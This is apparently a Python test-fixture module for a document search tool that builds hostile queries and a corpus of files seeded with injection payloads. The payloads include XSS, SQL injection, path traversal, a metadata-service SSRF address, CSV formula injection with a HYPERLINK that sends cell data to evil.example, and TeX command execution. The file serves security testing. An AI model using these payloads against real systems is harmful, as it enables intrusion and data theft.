"""What an attacker would ask, and documents that an attacker would have indexed."""

from __future__ import annotations

import csv
import html
import json
from pathlib import Path
from random import Random

import yaml

QUESTIONS = {
    "nul": "water\x00tanks",
    "only nul": "\x00",
    "a megabyte": "water " * 170_000,
    "one long word": "w" * 1999,
    "bidi": "water \u202e\u2066sknat\u2069\u202c",
    "combining": "w" + "\u0301" * 1500,
    "astral": "🚰" * 400,
    "not a character": "water \ufffe\uffff",
    "sql": "'; DROP TABLE passages; --",
    "fts": '"water* NEAR(tanks) AND OR NOT ^ -: {a b} (',
    "glob": "%_*?[a-z]\\",
    "regex": "(a+)+$ [[:alpha:]] .*?{1000}",
    "format": "%s %n {0} {0.__class__} ${7*7} {{7*7}} <%= 7*7 %>",
    "path": "../../../../etc/passwd",
    "address": "http://169.254.169.254/latest/meta-data/",
    "crlf": "water\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "markup": "</textarea></script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "quotes": "\"' onmouseover=alert(1) x='\"",
    "json": '{"q": "x", "__proto__": {"a": 1}}',
    "number": "1e999",
    "spaces": "\u2003\u00a0\u200b water \ufeff",
    "escapes": "\x1b[2J\x1b]0;owned\x07 \x9b31m",
}
"""By what is hostile in them."""

RAW = {
    "nul": "%00",
    "lone surrogate": "%ED%A0%80",
    "not utf-8": "%FF%FE%80",
    "overlong": "%C0%AF",
    "half an escape": "%",
    "bad escape": "%ZZ",
    "twice escaped": "%2500",
    "slashes": "..%2f..%2fetc%2fpasswd",
}
"""As they stand in an address, which no client would write so."""

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "closing": "</title></textarea></style></script><script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "vector": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "attribute": "\" autofocus onfocus=alert(1) x=' onmouseover='alert(1)",
    "entity": "&#x3C;script&#x3E;alert(1)&lt;/script&gt;",
    "comment": "<!-- --><!--><script>alert(1)</script>]]>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "markdown": "[free tanks](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "template": "{{ 7 * 7 }} {% for x in [] %} ${7*7} #{7*7} <%= 7*7 %>",
    "script literal": "${alert(1)} `${alert(1)}` \\u003cscript\\u003e </ScRiPt >",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"free tanks")',
    "command": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "＝1+1",
    "ansi": "tanks \x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "c1": "tanks \x9b2J\x9d0;owned\x9c",
    "bidi": "tanks \u202egnp.exe\u202c",
    "tex": "\\input{/etc/passwd} \\write18{id} } @article{x, title = {",
    "ris": "tanks ER  - TY  - JOUR",
}
"""Each stands in the text of documents, and in whatever is said about them."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/"><script>alert(1)</script>',
    "//evil.example/a",
)
"""What a document may say that it was published at."""

WORDS = (
    "water", "tanks", "truck", "informal", "settlement", "market", "bicycle", "lane", "family",
    "basket", "school", "clinic", "pump", "square", "tenant", "vendor", "night", "bus", "shade",
    "tree", "river", "wall", "flood", "roof", "street", "lamp", "quay", "tram", "park", "mask",
)  # fmt: skip


def sentence(number: int) -> str:
    """Thirty words in an order that no other number has, lest documents pass for copies."""
    drawn = Random(number).choices(WORDS, k=30)  # noqa: S311 - nothing is kept secret by it
    return f"Water tanks for ward {number}: {' '.join(drawn)}."


def write_documents(folder: Path) -> int:
    """Write a corpus in which each payload is in each of five formats; return how many."""
    folder.mkdir()
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        told = [f"{payload} {sentence(5 * number + each)} {payload}" for each in range(5)]
        about = {
            "title": f"{payload} {name}",
            "publisher": payload,
            "kind": "report",
            "date": "2020-05",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "topics": [payload],
        }
        stem = folder / name.replace(" ", "-")
        front = yaml.safe_dump(about, allow_unicode=False)
        stem.with_suffix(".md").write_text(
            f"---\n{front}---\n\n# {payload}\n\nIn Durban: {told[0]}\n", encoding="utf-8"
        )
        stem.with_suffix(".html").write_text(_page(about["title"], told[1]), encoding="utf-8")
        stem.with_suffix(".txt").write_text(f"{name}\n\n{told[2]}\n", encoding="utf-8")
        records = folder / f"{stem.name}-records"
        records.with_suffix(".jsonl").write_text(
            json.dumps({"id": f"json-{stem.name}", "text": told[3], "city": "Lima", **about})
            + "\n",
            encoding="utf-8",
        )
        with records.with_suffix(".csv").open("w", encoding="utf-8", newline="") as file:
            rows = csv.writer(file)
            rows.writerow(["id", "title", "city", "text"])
            rows.writerow([f"csv-{stem.name}", about["title"], "Quito", told[4]])
    return 5 * len(PAYLOADS)


def _page(title: object, said: str) -> str:
    """A page that shows a payload as text, and has it as markup too."""
    return (
        f"<!doctype html><html lang=en><head><title>{html.escape(str(title))}</title></head><body>"
        f"<main><h1>Tanks</h1><p>{html.escape(said)}</p><p>{said}</p></main></body></html>"
    )
